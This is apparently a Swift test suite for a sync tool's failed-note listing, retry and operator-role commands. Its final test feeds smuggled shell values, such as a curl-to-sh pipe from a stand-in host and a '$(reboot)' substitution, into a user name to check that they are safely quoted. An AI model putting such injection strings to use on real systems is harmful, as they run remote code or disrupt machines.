import Foundation
import JobQueue
import NoteSync
import Postgres
import TestSupport
import Testing

@Suite("syncctl failed list, retry", .migrated)
struct FailedNoteTests {
    @Test("What was refused is listed with why, and released by the user, or the note, alone")
    func life() async throws {
        let control = try ControlFixture()
        #expect(try await control.run("failed", "list").errors.contains("No note is on the list"))
        try await control.execute(
            """
            INSERT INTO sync_failed_notes (user_id, keep_note_id, code, error, job_id, content_hash)
            VALUES ('anna', 'n1', 'rejected', 'too long', gen_random_uuid(), '1:a'),
                ('anna', 'n2', 'deferred', 'in the trash', gen_random_uuid(), '1:b'),
                ('anna', 'n3', 'held', 'x', gen_random_uuid(), NULL), ('bob', 'n1', 'rejected', 'y', gen_random_uuid(), '1:c')
            """
        )
        let list = try await control.run("failed", "list", "--user", "anna")
        #expect(list.output.contains("too long") && !list.output.contains("bob"), "\(list)")
        struct Note: Decodable {
            var keepNoteId: String
            var isWithheld: Bool
        }
        func withheld() async throws -> [String] {
            let notes: [Note] = try await control.run("failed", "list", "--json").json()
            return notes.filter(\.isWithheld).map(\.keepNoteId).sorted()
        }
        #expect(try await withheld() == ["n1", "n1", "n2"])
        let one = try await control.run("failed", "retry", "anna", "n1")
        #expect(one.code == 0 && one.output.contains("syncctl enqueue anna"), "\(one)")
        #expect(try await withheld() == ["n1", "n2"])
        #expect(try await control.run("failed", "retry", "anna", "n1").code == 66)
        #expect(try await control.run("failed", "retry", "anna").code == 0)
        #expect(try await withheld() == ["n1"], "bob's")
        let kept = try await control.database.pool.query("SELECT FROM sync_failed_notes")
        #expect(kept.count == 4, "they are asked for as before")
    }

    @Test("An operator's role suffices for what operators do")
    func operatorsRole() async throws {
        let control = try ControlFixture()
        let roles = try await control.database.runRolesFile()
        #expect(roles.exit == .code(0), "\(roles.transcript)")
        let job = try await control.insertJob()
        try await control.execute(
            """
            INSERT INTO sync_failed_notes (user_id, keep_note_id, code, error, job_id, content_hash)
            VALUES ('anna', 'n1', 'rejected', 'too long', gen_random_uuid(), '1:a')
            """
        )
        try await control.execute(
            """
            INSERT INTO sync_intents (user_id, keep_note_id, operation, idempotency_key, content_hash, keep_modified_at, job_id,
                lease, unknown_at, unknown_count)
            VALUES ('anna', 'n2', 'create', gen_random_uuid(), '1:a', now(), gen_random_uuid(), 1, now(), 1)
            """
        )
        try await control.execute(
            """
            INSERT INTO sync_state (user_id, keep_note_id, notion_page_id, keep_modified_at) VALUES ('anna', 'n2', 'p', now())
            """
        )
        let page = "59833787-2cf9-4fdf-8782-e53db20768a5"
        let commands = [
            ["failed", "list"], ["failed", "retry", "anna"], ["cancel", job.description],
            ["retry", "--failed-since", "1h"],
            ["unknown", "list"], ["unknown", "settle", "anna", "n2", "--written", "--page", page],
            ["unknown", "surplus", "--user", "anna", "--forget", "p"],
        ]
        for command in commands {
            let url = ["DATABASE_URL": control.database.connectionString(of: "sync_operator")]
            let result = try await control.result(of: control.start(command, url))
            #expect(result.code == 0, "\(command): \(result)")
        }
    }

    @Test(
        "A command in a message can be pasted, whatever the user is called",
        arguments: [
            ("anna@example.org", "c anna@example.org --o"), ("x; curl evil|sh #", "c 'x; curl evil|sh #' --o"),
            ("$(reboot)", "c '$(reboot)' --o"), ("--help", "c --o -- --help"), (" a", "c ' a' --o"),
            ("it's", "c 'it'\\''s' --o"), ("-a b", "c --o -- '-a b'"),
        ]
    )
    func quoting(user: String, command: String) {
        #expect(UserID(user).shellCommand("c", "--o") == command)
    }
}
